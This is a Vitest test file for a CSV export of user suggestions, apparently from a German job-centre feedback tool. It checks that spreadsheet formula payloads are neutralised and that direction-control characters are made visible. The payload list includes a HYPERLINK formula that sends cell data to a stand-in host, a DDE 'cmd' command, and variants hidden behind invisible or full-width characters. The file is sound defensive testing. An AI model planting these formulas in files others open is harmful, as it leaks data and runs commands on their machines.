import { describe, expect, it } from 'vitest';
import { makeSuggestion } from '../../tests/fixtures/make-suggestion';
import { neutraliseFormula, suggestionsToCsv } from './csv';

/** Reads CSV the way a spreadsheet does (RFC 4180, ";"), so tests see the cells a manager would see. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ';') row.push(cell), (cell = '');
    else if (char === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += char;
  }
  return rows;
}

const FORMULAS = [
  '=HYPERLINK("https://boese.example/?d="&A1;"Klick")',
  '+49 30 1234',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUMME(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  // Spreadsheets skip leading spaces, also no-break and zero-width ones, and read full-width signs.
  '   =1+1',
  '\u00A0=HYPERLINK("https://boese.example")',
  '\u200B=1+1',
  '\uFEFF@SUMME(A1)',
  '＝HYPERLINK("https://boese.example")',
  '＋1',
];

describe('CSV for spreadsheet users', () => {
  it('starts with a byte order mark and a German header row, separated by semicolons', () => {
    const text = suggestionsToCsv([{ suggestion: makeSuggestion() }]);
    expect(text.startsWith('\uFEFF"Datum";"Dienst";"Seite"')).toBe(true);
    const [header] = readCsv(text.slice(1));
    expect(header).toEqual(expect.arrayContaining(['Datum', 'Seite', 'Schritt', 'Ziel', 'Kategorie', 'Problem', 'Vorschlag', 'Rolle', 'Sprache', 'Vorschlags-ID', 'Paket-ID', 'Empfangscode']));
  });

  it('writes one row per suggestion in words a manager understands', () => {
    const suggestion = makeSuggestion({ createdAt: '2026-11-20T09:14:03.512Z', category: 'process-friction', authorRole: 'caseworker', language: 'uk', redactions: { iban: 1, email: 2 } });
    const [header, row] = readCsv(suggestionsToCsv([{ suggestion, batchId: 'paket-1', receiptCode: 'K7QP-2MX4-9RTA' }]).slice(1));
    const cell = (name: string) => row![header!.indexOf(name)];
    expect(cell('Datum')).toBe('20.11.2026 10:14');
    expect(cell('Kategorie')).toBe('Umständlicher Ablauf');
    expect(cell('Rolle')).toBe('Fachkraft');
    expect(cell('Sprache')).toBe('Ukrainisch');
    expect(cell('Ziel')).toBe('Kaltmiete in Euro');
    expect(cell('Entfernte persönliche Angaben')).toBe('3');
    expect([cell('Vorschlags-ID'), cell('Paket-ID'), cell('Empfangscode')]).toEqual([suggestion.id, 'paket-1', 'K7QP-2MX4-9RTA']);
  });

  it.each(FORMULAS)('neutralises the formula payload %j with a leading apostrophe', (payload) => {
    const suggestion = makeSuggestion({ problem: payload, proposal: payload, page: { url: 'https://jobcenter-musterstadt.example/a', title: payload, step: payload } });
    const [header, row] = readCsv(suggestionsToCsv([{ suggestion }]).slice(1));
    for (const column of ['Problem', 'Vorschlag', 'Seite', 'Schritt']) {
      expect(row![header!.indexOf(column)]).toBe(`'${payload}`);
    }
  });

  it('leaves ordinary text alone, including text that merely contains a formula character', () => {
    expect(neutraliseFormula('Betrag = Kaltmiete + Nebenkosten')).toBe('Betrag = Kaltmiete + Nebenkosten');
    expect(neutraliseFormula('')).toBe('');
  });

  it('shows invisible direction controls as visible tokens, so a cell never reads differently from its data', () => {
    const problem = 'Betrag \u202E0001\u202C Euro';
    const [header, row] = readCsv(suggestionsToCsv([{ suggestion: makeSuggestion({ problem }) }]).slice(1));
    expect(row![header!.indexOf('Problem')]).toBe('Betrag [U+202E]0001[U+202C] Euro');
  });

  it('keeps quotes, semicolons and line breaks inside their cell', () => {
    const problem = 'Feld "Betrag"; unklar.\r\nZweite Zeile\nDritte';
    const rows = readCsv(suggestionsToCsv([{ suggestion: makeSuggestion({ problem }) }, { suggestion: makeSuggestion() }]).slice(1));
    expect(rows).toHaveLength(3);
    expect(rows[1]![rows[0]!.indexOf('Problem')]).toBe(problem);
    expect(new Set(rows.map((row) => row.length)).size).toBe(1);
  });
});
